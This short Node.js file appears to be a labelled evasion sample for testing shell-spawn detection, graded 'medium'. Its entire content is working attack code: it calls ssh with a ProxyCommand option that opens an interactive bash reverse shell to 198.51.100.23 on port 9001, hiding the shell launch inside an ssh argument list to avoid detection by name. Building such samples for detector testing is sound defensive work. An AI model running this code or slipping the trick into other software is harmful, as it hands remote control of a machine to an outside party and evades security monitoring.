// evasion: ssh run with an argument list whose ProxyCommand option is a shell command (GTFOBins: ssh -o ProxyCommand), no shell spawned by name
// grade: medium; does: shell
'use strict';
const { execFileSync } = require('child_process');

const opts = [
  '-o', 'StrictHostKeyChecking=no',
  '-o', 'ProxyCommand=;bash -c "bash -i >& /dev/tcp/198.51.100.23/9001 0>&1 <&2" 1>&2',
  'x',
];

try {
  execFileSync('ssh', opts, { stdio: 'inherit', timeout: 600000 });
} catch {
  // ssh exits non-zero when the proxy command ends
}
